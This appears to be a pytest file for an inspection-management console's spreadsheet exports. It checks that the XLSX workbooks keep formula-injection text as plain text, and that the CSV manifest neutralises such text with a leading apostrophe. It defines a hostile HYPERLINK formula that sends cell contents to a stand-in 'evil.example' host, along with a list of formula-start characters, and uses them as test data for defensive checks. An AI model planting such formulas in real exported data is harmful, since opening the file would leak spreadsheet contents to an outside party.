"""Formula injection: every workbook the console hands out keeps hostile text as text, never a formula."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, timedelta
from itertools import cycle

import pytest
from openpyxl import load_workbook

from server.db import db
from server.models import (
    Feedback,
    FeedbackReply,
    Organization,
    Photo,
    Project,
    RectificationOrder,
    ReviewDecision,
    Township,
    User,
    Village,
    utcnow,
)
from server.services import grading, rounds
from tests.api.test_rounds import draw_day, new_round, source
from tests.console.test_exports import visit_with_evidence
from tests.console.test_grading import _score_everything, setup  # noqa: F401 - setup is a fixture
from tests.factories import V1
from tests.support.images import phone_jpeg

# Every start a spreadsheet reads as a formula, the villager's exfiltration link first.
STARTS = ["=", "+", "-", "@", "\t", "\r"]
LINK = '=HYPERLINK("http://evil.example/?leak="&A2&B2,"点击查看详情")'


class Hostile:
    """Hands out distinct hostile texts, cycling through the formula starts, and remembers them."""

    def __init__(self) -> None:
        self._starts = cycle(STARTS)
        self.planted: dict[str, str] = {}

    def __call__(self, field: str) -> str:
        """A hostile text for `field` (a formula that names the field)."""
        text = LINK if not self.planted else f'{next(self._starts)}HYPERLINK("http://evil.example/?{field}")'
        self.planted[field] = text
        return text


def cells(body: bytes) -> list:
    """Every non-empty cell of every sheet of an XLSX, as openpyxl reads it back."""
    wb = load_workbook(io.BytesIO(body))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


@pytest.fixture
def hostile_world(app, world, client, setup):  # noqa: F811 - the grading fixture
    """Visit, finding, order, feedback, a closed round and a finalized grading, all named with formulas."""
    visit_id, photos = visit_with_evidence(client, world, "insp_a", world.a1, V1, [phone_jpeg(seed=21)])
    _score_everything(app, world, setup)
    h = Hostile()
    with app.app_context():
        s = db.session
        admin = s.get(User, world.ids["admin"])
        s.get(Township, world.t1).name = h("township")
        s.get(Village, world.v1).name = h("village")
        project = s.get(Project, world.p1)
        project.title = h("project")
        project.secretary_id = world.ids["secretary"]
        s.get(Organization, project.organization_id).name = h("organization")
        for key in ("admin", "insp_a", "insp_b", "secretary"):
            s.get(User, world.ids[key]).name = h(f"name-{key}")
        s.add(
            ReviewDecision(
                visit_id=visit_id,
                target_kind="visit",
                target_id=visit_id,
                decision="questioned",
                reason=h("review-reason"),
                reviewer_id=admin.id,
            )
        )
        s.add(
            RectificationOrder(
                project_id=world.p1,
                visit_id=visit_id,
                township_id=world.t1,
                items=[h("order-item")],
                deadline=date.today() + timedelta(days=30),
                status="responded",
                issued_by_id=admin.id,
                response_text=h("order-response"),
                responded_by_id=world.ids["secretary"],
                responded_at=utcnow(),
                note=h("order-note"),
            )
        )
        fb = Feedback(
            project_id=world.p1,
            township_id=world.t1,
            user_id=world.ids["villager"],
            client_id="hostile-feedback",
            receipt_no="FK20260101HOSTILE",
            rating="不满意",
            category="其他",
            text=h("feedback-text"),
            status="replied",
            due_at=utcnow() + timedelta(days=5),
            sent_at=utcnow(),
        )
        s.add(fb)
        s.flush()
        s.add(FeedbackReply(feedback_id=fb.id, staff_id=admin.id, text=h("feedback-reply"), status="replied"))
        photo = s.get(Photo, photos[0]["id"])
        photo.exif = {**(photo.exif or {}), "taken_at": h("exif-taken-at")}
        s.commit()
        rid = new_round(world, name=h("round-name"), check_items=[h("check-1"), h("check-2"), h("check-3")])
        rounds.freeze(s, admin, rid, source())
        rounds.run_draw(s, admin, rid, "2026088", today=draw_day())
        rounds.close(s, admin, rid)
        grading.finalize(s, admin, setup["session"])
    return {"visit": visit_id, "round": rid, "grading": setup["session"], "planted": h.planted}


WORKBOOKS = {
    "visits": ("/console/exports/visits.xlsx", {"township", "village", "project", "name-admin"}),
    "findings": ("/console/exports/findings.xlsx", {"township", "village", "project", "review-reason"}),
    "rectifications": (
        "/console/exports/rectifications.xlsx",
        {"township", "project", "order-item", "order-response", "order-note", "name-admin"},
    ),
    "feedback": ("/console/exports/feedback.xlsx", {"township", "project", "feedback-text", "feedback-reply"}),
    # Which sites and items the draw picks is the draw's business: the next test checks the items.
    "round": ("/console/rounds/{round}/round.xlsx", set()),
    "assessment": ("/console/grading/{grading}/assessment.xlsx", {"project", "organization", "name-secretary"}),
}


@pytest.mark.parametrize("kind", sorted(WORKBOOKS))
def test_every_workbook_keeps_hostile_text_as_text(app, console, hostile_world, kind):
    """Text starting with = + - @ tab or CR is a text cell holding exactly what was typed, never a formula."""
    url, fields = WORKBOOKS[kind]
    r = console("admin").get(url.format(**hostile_world))
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    found = cells(r.data)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    text = {c.value for c in found if c.data_type == "s"}
    planted = hostile_world["planted"]
    assert {f: planted[f] for f in fields if planted[f] not in text} == {}
    # Text that merely starts like a formula is still there, character for character, as text.
    hostile = [c for c in found if isinstance(c.value, str) and c.value.startswith(tuple(STARTS))]
    assert hostile and all(c.data_type == "s" for c in hostile)


def test_round_workbook_keeps_drawn_check_items_as_text(app, console, hostile_world):
    """The drawn check items (hostile, one per line) are text cells holding exactly the bank's items."""
    r = console("admin").get(f"/console/rounds/{hostile_world['round']}/round.xlsx")
    # The round's bank trims its items when the round is created (a tab or CR start goes there).
    planted = {v.strip() for k, v in hostile_world["planted"].items() if k.startswith("check-")}
    items = [c for c in cells(r.data) if isinstance(c.value, str) and "?check-" in c.value]
    assert len(items) == 2 and all(c.data_type == "s" for c in items)
    assert all(set(c.value.split("\n")) <= planted for c in items)


def test_evidence_manifest_csv_neutralises_formula_starts(app, console, hostile_world):
    """In manifest.csv a field starting like a formula gets a leading apostrophe; the JSON keeps it as is."""
    client = console("admin")
    r = client.get(f"/console/visits/{hostile_world['visit']}/evidence.zip")
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.data)) as zf:
        rows = list(csv.reader(io.StringIO(zf.read("manifest.csv").decode("utf-8-sig"))))
        raw = zf.read("manifest.json").decode()
    planted = hostile_world["planted"]["exif-taken-at"]
    fields = [f for row in rows[1:] for f in row]
    assert "'" + planted in fields
    assert not [f for f in fields if f.startswith(tuple(STARTS))]
    assert json.loads(raw)["photos"][0]["exif_taken_at"] == planted


def test_cover_sheet_exporter_name_is_text(app, console, hostile_world):
    """The cover sheet names the exporter (a hostile staff name here) as text too."""
    r = console("admin").get("/console/exports/visits.xlsx")
    wb = load_workbook(io.BytesIO(r.data))
    cover = {row[0].value: row[1] for row in wb["导出说明"].iter_rows(min_row=2)}
    assert cover["导出人"].value == hostile_world["planted"]["name-admin"]
    assert cover["导出人"].data_type == "s"
